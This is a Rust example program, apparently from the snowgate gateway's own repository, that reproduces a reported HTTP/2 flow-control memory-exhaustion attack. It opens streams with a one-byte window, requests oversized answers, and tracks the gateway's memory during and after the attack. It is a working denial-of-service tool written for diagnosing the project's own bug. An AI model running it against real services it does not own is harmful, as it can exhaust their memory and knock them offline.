//! Issue 23's HTTP/2 attack on a running gateway, with the gateway's memory watched: HTTP/2
//! connections whose streams are granted one byte of window and never more (the client never
//! sends WINDOW_UPDATE), each stream asking for an answer the gateway makes without a node (a
//! cache hit, a 429, a -32600), with a long id of `<` to echo. The attacker then leaves, and the
//! gateway's memory is watched a while longer (is it given back to the system?).
//!
//! ```text
//! target/release/snowgate devnode --listen 127.0.0.1:9651 &
//! target/release/snowgate serve --config attack.toml &      # [limits] idle_timeout = "5s", send_timeout = "6s"
//! cargo run --release --example h2_window_attack -- --addr 127.0.0.1:8545 --pid $(pidof snowgate)
//! ```
//!
//! Flags (all optional but `--addr`): `--pid PID` (whose VmRSS to print), `--conns 4`,
//! `--streams 64` (per connection; snowgate allows 64), `--id-bytes 1047000` (the id: a string of
//! that many `<`), `--path /ext/info`, `--method info.getNetworkName`, `--params {}`, `--hold 60`
//! (seconds the attacker stays), `--after 20` (seconds watched after it left).
//!
//! Each second it prints the time, the gateway's VmRSS, the answers whose head came (and their
//! statuses), the streams the gateway ended with an error and the connections it closed.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;

#[derive(Debug)]
struct Args {
    addr: std::net::SocketAddr,
    pid: Option<u32>,
    conns: usize,
    streams: usize,
    id_bytes: usize,
    path: String,
    method: String,
    params: String,
    hold: u64,
    after: u64,
}

fn args() -> Result<Args, String> {
    let mut a = Args {
        addr: "127.0.0.1:8545".parse().map_err(|e| format!("{e}"))?,
        pid: None,
        conns: 4,
        streams: 64,
        id_bytes: 1_047_000,
        path: "/ext/info".into(),
        method: "info.getNetworkName".into(),
        params: "{}".into(),
        hold: 60,
        after: 20,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let value = it.next().ok_or(format!("{flag} needs a value"))?;
        let bad = |e: &dyn std::fmt::Display| format!("{flag} {value}: {e}");
        match flag.as_str() {
            "--addr" => a.addr = value.parse().map_err(|e| bad(&e))?,
            "--pid" => a.pid = Some(value.parse().map_err(|e| bad(&e))?),
            "--conns" => a.conns = value.parse().map_err(|e| bad(&e))?,
            "--streams" => a.streams = value.parse().map_err(|e| bad(&e))?,
            "--id-bytes" => a.id_bytes = value.parse().map_err(|e| bad(&e))?,
            "--path" => a.path = value,
            "--method" => a.method = value,
            "--params" => a.params = value,
            "--hold" => a.hold = value.parse().map_err(|e| bad(&e))?,
            "--after" => a.after = value.parse().map_err(|e| bad(&e))?,
            _ => return Err(format!("unknown flag {flag}")),
        }
    }
    Ok(a)
}

/// The process's resident memory in KiB (`VmRSS` of /proc/PID/status).
fn rss_kib(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

#[derive(Default)]
struct Counts {
    /// Answers by HTTP status.
    statuses: std::sync::Mutex<std::collections::BTreeMap<u16, usize>>,
    heads: AtomicUsize,
    cut: AtomicUsize,
    completed: AtomicUsize,
    closed: AtomicUsize,
}

#[tokio::main]
async fn main() {
    let a = match args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("h2_window_attack: {e}");
            std::process::exit(2);
        }
    };
    let id = format!("\"{}\"", "<".repeat(a.id_bytes));
    let body = Bytes::from(format!(
        r#"{{"jsonrpc":"2.0","id":{id},"method":"{}","params":{}}}"#,
        a.method, a.params
    ));
    let counts = Arc::new(Counts::default());
    let started = Instant::now();
    let rss = || {
        a.pid
            .and_then(rss_kib)
            .map_or("-".into(), |k| format!("{} MiB", k / 1024))
    };
    println!("t=0s rss={} (before)", rss());
    let mut tasks = Vec::new();
    for _ in 0..a.conns {
        let tcp = match tokio::net::TcpStream::connect(a.addr).await {
            Ok(s) => s,
            Err(e) => {
                eprintln!("connect {}: {e}", a.addr);
                std::process::exit(1);
            }
        };
        let handshake = h2::client::Builder::new()
            .initial_window_size(1)
            .initial_connection_window_size(1024 * 1024)
            .handshake::<_, Bytes>(tcp)
            .await;
        let (sender, conn) = match handshake {
            Ok(h) => h,
            Err(e) => {
                eprintln!("HTTP/2 handshake: {e}");
                std::process::exit(1);
            }
        };
        let c = counts.clone();
        tasks.push(tokio::spawn(async move {
            let _ = conn.await;
            c.closed.fetch_add(1, Ordering::Relaxed);
        }));
        let mut sender = sender;
        for _ in 0..a.streams {
            let Ok(ready) = sender.clone().ready().await else {
                break;
            };
            sender = ready;
            let Ok(req) = http::Request::post(format!("http://{}{}", a.addr, a.path))
                .header("content-type", "application/json")
                .body(())
            else {
                break;
            };
            let Ok((answer, mut stream)) = sender.send_request(req, false) else {
                break;
            };
            let _ = stream.send_data(body.clone(), true);
            let c = counts.clone();
            tasks.push(tokio::spawn(async move {
                // The body stays in its stream: the window is never released, only the end seen.
                let _keep = stream;
                let Ok(r) = answer.await else {
                    c.cut.fetch_add(1, Ordering::Relaxed);
                    return;
                };
                c.heads.fetch_add(1, Ordering::Relaxed);
                if let Ok(mut s) = c.statuses.lock() {
                    *s.entry(r.status().as_u16()).or_default() += 1;
                }
                let mut body = r.into_body();
                loop {
                    match body.data().await {
                        Some(Ok(_)) => {}
                        Some(Err(_)) => {
                            c.cut.fetch_add(1, Ordering::Relaxed);
                            return;
                        }
                        None => {
                            c.completed.fetch_add(1, Ordering::Relaxed);
                            return;
                        }
                    }
                }
            }));
        }
    }
    let report = |phase: &str| {
        let statuses = counts
            .statuses
            .lock()
            .map(|s| format!("{s:?}"))
            .unwrap_or_default();
        println!(
            "t={}s rss={} heads={} {statuses} cut={} completed={} conns_closed={}/{} ({phase})",
            started.elapsed().as_secs(),
            rss(),
            counts.heads.load(Ordering::Relaxed),
            counts.cut.load(Ordering::Relaxed),
            counts.completed.load(Ordering::Relaxed),
            counts.closed.load(Ordering::Relaxed),
            a.conns,
        );
    };
    let mut peak = 0;
    while started.elapsed() < Duration::from_secs(a.hold) {
        tokio::time::sleep(Duration::from_secs(1)).await;
        peak = peak.max(a.pid.and_then(rss_kib).unwrap_or(0));
        report("attacking");
    }
    for t in tasks {
        t.abort();
    }
    let left = Instant::now();
    while left.elapsed() < Duration::from_secs(a.after) {
        tokio::time::sleep(Duration::from_secs(1)).await;
        report("attacker gone");
    }
    println!("peak rss while attacking: {} MiB", peak / 1024);
}
